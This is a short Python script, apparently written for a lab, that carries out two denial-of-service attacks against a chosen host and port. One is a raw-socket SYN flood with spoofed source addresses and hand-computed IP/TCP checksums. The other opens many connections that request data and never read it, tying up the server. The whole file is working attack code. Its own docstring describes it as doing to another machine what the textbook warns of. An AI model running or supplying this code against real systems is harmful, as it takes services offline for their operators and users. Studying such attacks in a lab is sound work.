#!/usr/bin/env python3
"""Does to another machine what the textbook warns of.

flood INTERFACE MAC HOST PORT SECONDS   SYNs from addresses that nobody has, as many as go; prints how many
stall HOST PORT COUNT SECONDS           so many connections that ask for data and never take any
"""
import random
import socket
import struct
import sys
import time

FRAMES = 8192


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(ether, host, port, chance):
    source = bytes([10, chance.randrange(100, 200), chance.randrange(256), chance.randrange(1, 255)])
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, chance.randrange(65536), 0, 64, 6, 0, source, host)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    ports = (chance.randrange(1024, 65536), port)
    tcp = struct.pack("!HHIIBBHHH", *ports, chance.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    pseudo = source + host + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ether + ip + tcp


def flood(interface, mac, host, port, seconds):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0x0800))
    ether = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
    chance = random.Random(7)
    frames = [syn(ether, socket.inet_aton(host), int(port), chance) for _ in range(FRAMES)]
    sent, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames[:256]:
            try:
                raw.send(frame)
                sent += 1
            except OSError:
                time.sleep(0.001)
        frames = frames[256:] + frames[:256]
    print(sent)


def stall(host, port, count, seconds):
    held = []
    for _ in range(int(count)):
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.connect((host, int(port)))
        connection.sendall(b"get cubic 1000\n")
        held.append(connection)
    print(len(held), flush=True)
    time.sleep(float(seconds))


what, *rest = sys.argv[1:]
{"flood": flood, "stall": stall}[what](*rest)
